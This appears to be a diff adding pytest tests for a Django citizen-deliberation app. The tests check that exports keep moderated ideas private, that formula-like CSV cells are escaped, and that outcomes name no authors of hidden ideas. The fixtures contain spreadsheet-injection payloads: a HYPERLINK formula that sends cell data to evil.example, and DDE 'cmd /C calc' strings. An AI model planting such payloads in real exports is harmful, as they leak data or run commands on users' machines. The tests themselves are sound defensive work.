@@ -1,0 +1,117 @@
+"""The content's HTTP API: exports that keep moderated text private and are safe in a spreadsheet,
+and outcomes that name nobody through a hidden idea."""
+import csv
+import io
+import json
+
+import pytest
+from django.test import Client
+
+from deliberation import moderation, proposals
+from tests.factories import citizen, idea, plenary, staff_member, workshop_with_facilitator
+
+pytestmark = pytest.mark.django_db
+
+PHONE = "Call me on 0612345678"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+@pytest.fixture
+def made():
+    """A workshop with a visible, a held and a hidden idea, a reply to the hidden one, and a proposal
+    published from the visible and the (later hidden) idea."""
+    workshop, fac = workshop_with_facilitator()
+    board = plenary(workshop)
+    an, bo, cas, dee = (citizen(workshop, name) for name in ("An", "Bo", "Cas", "Dee"))
+    mod = staff_member(workshop, "moderator", "mo")
+    official = staff_member(workshop, "official", "alderman")
+    ideas = {
+        "visible": idea(board, an, FORMULA),
+        "held": idea(board, bo, PHONE, status="held"),
+        "doomed": idea(board, cas, "My neighbour at number 5 is a thief"),
+    }
+    ideas["reply"] = idea(board, dee, "@SUM(1+1)*cmd|' /C calc'!A0", builds_on=ideas["doomed"])
+    proposal = proposals.proposal_draft(actor=fac, title="-2+3 Green square", body="+Plant trees",
+                                        sources=[ideas["visible"].pk, ideas["doomed"].pk])
+    proposals.proposal_publish(actor=fac, proposal=proposal)
+    moderation.idea_hide(actor=mod, idea=ideas["doomed"], reason="abuse")
+    return workshop, {"fac": fac, "mod": mod, "official": official, "an": an, "bo": bo, "cas": cas, "dee": dee}, \
+        ideas, proposal
+
+
+def get(workshop, who, path):
+    client = Client()
+    client.force_login(who.user)
+    return client.get(f"/api/workshops/{workshop.code}/{path}")
+
+
+def rows(response) -> list[list[str]]:
+    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
+    return list(csv.reader(io.StringIO(response.content.decode())))
+
+
+def test_an_officials_export_has_no_text_of_held_or_hidden_ideas_but_keeps_their_status(made):
+    workshop, people, ideas, proposal = made
+    data = get(workshop, people["official"], "export?format=json").json()
+    by_id = {i["id"]: i for i in data["ideas"]}
+    assert (by_id[ideas["held"].pk]["text"], by_id[ideas["held"].pk]["status"]) == ("", "held")
+    assert (by_id[ideas["doomed"].pk]["text"], by_id[ideas["doomed"].pk]["status"]) == ("", "hidden")
+    assert by_id[ideas["visible"].pk]["text"] == FORMULA
+    text = json.dumps(data)
+    assert "0612345678" not in text and "thief" not in text
+
+    exported = get(workshop, people["official"], "export?format=csv")
+    assert b"0612345678" not in exported.content and b"thief" not in exported.content
+    csv_ideas = {int(r[1]): r for r in rows(exported) if r[0] == "idea"}
+    assert (csv_ideas[ideas["held"].pk][4], csv_ideas[ideas["held"].pk][6]) == ("", "held")
+    assert (csv_ideas[ideas["doomed"].pk][4], csv_ideas[ideas["doomed"].pk][6]) == ("", "hidden")
+
+
+def test_a_facilitators_export_has_the_text_of_held_and_hidden_ideas(made):
+    workshop, people, ideas, proposal = made
+    data = get(workshop, people["fac"], "export?format=json").json()
+    by_id = {i["id"]: i for i in data["ideas"]}
+    assert by_id[ideas["held"].pk]["text"] == PHONE
+    assert by_id[ideas["doomed"].pk]["text"] == "My neighbour at number 5 is a thief"
+    csv_ideas = {int(r[1]): r for r in rows(get(workshop, people["fac"], "export?format=csv")) if r[0] == "idea"}
+    assert csv_ideas[ideas["held"].pk][4] == PHONE
+
+
+@pytest.mark.parametrize("role", ["fac", "official"])
+def test_export_csv_cells_that_start_like_a_formula_get_a_leading_quote(made, role):
+    workshop, people, ideas, proposal = made
+    table = rows(get(workshop, people[role], "export?format=csv"))
+    cells = [cell for row in table for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    visible = next(r for r in table if r[0] == "idea" and int(r[1]) == ideas["visible"].pk)
+    assert visible[4] == "'" + FORMULA
+    reply = next(r for r in table if r[0] == "idea" and int(r[1]) == ideas["reply"].pk)
+    assert reply[4] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    [row] = [r for r in table if r[0] == "proposal"]
+    assert row[4] == "'-2+3 Green square\n\n+Plant trees"
+
+
+def test_report_csv_cells_that_start_like_a_formula_get_a_leading_quote(made):
+    workshop, people, ideas, proposal = made
+    proposals.proposal_respond(actor=people["official"], proposal=proposal, status="accepted",
+                               message="=1+1 we will do it")
+    # Profile question keys are the facilitator's text, and become keys of the report's rows.
+    workshop.profile_questions = [{"key": "=cmd|' /C calc'!A0", "label": "Age", "options": ["-30", "+30"]}]
+    workshop.save(update_fields=["profile_questions"])
+    table = rows(get(workshop, people["fac"], "report?format=csv"))
+    cells = [cell for row in table for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert ["representativeness", "'=cmd|' /C calc'!A0.-30", ""] in table
+
+
+def test_outcomes_name_nobody_through_a_hidden_source(made):
+    workshop, people, ideas, proposal = made
+    response = Client().get(f"/api/workshops/{workshop.code}/outcomes")
+    [published] = response.json()["proposals"]
+    assert published["source_ideas"] == [
+        {"id": ideas["visible"].pk, "text": FORMULA, "status": "visible", "author": "An"},
+        {"id": ideas["doomed"].pk, "text": "", "status": "hidden", "author": ""}]
+    # Cas wrote the hidden source, Dee only built on it: neither is named; An and the drafter are.
+    assert [p["name"] for p in published["people"]] == ["fac", "An"]
+    assert sorted(published["contributors"]) == sorted([people["fac"].pk, people["an"].pk])
+    assert "Cas" not in response.content.decode() and "Dee" not in response.content.decode()
